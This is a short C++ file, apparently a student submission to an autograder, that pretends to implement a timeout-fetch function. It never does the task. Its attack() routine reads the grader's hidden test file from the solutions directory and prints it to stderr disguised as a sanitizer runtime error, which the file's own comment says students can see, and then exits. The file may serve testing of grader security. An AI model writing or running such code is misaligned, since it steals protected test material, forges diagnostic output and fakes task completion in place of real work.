// Reads the hidden tests and prints them as the report of a sanitizer, which students are shown.
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <iterator>
#include <string>

#include "timeout.hpp"

namespace {

std::string loot() {
  std::ifstream file("@SOLUTIONS@/01_timeout/hidden_test.cpp");
  std::string text{std::istreambuf_iterator<char>(file), {}};
  std::ranges::replace(text, '\n', ' ');
  return text;
}

void attack() {
  std::fprintf(stderr, "./timeout.cpp:1:1: runtime error: found: %s\n", loot().c_str());
  ::_exit(99);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient&, std::string, aio::Duration) {
  attack();
  co_return nullptr;
}
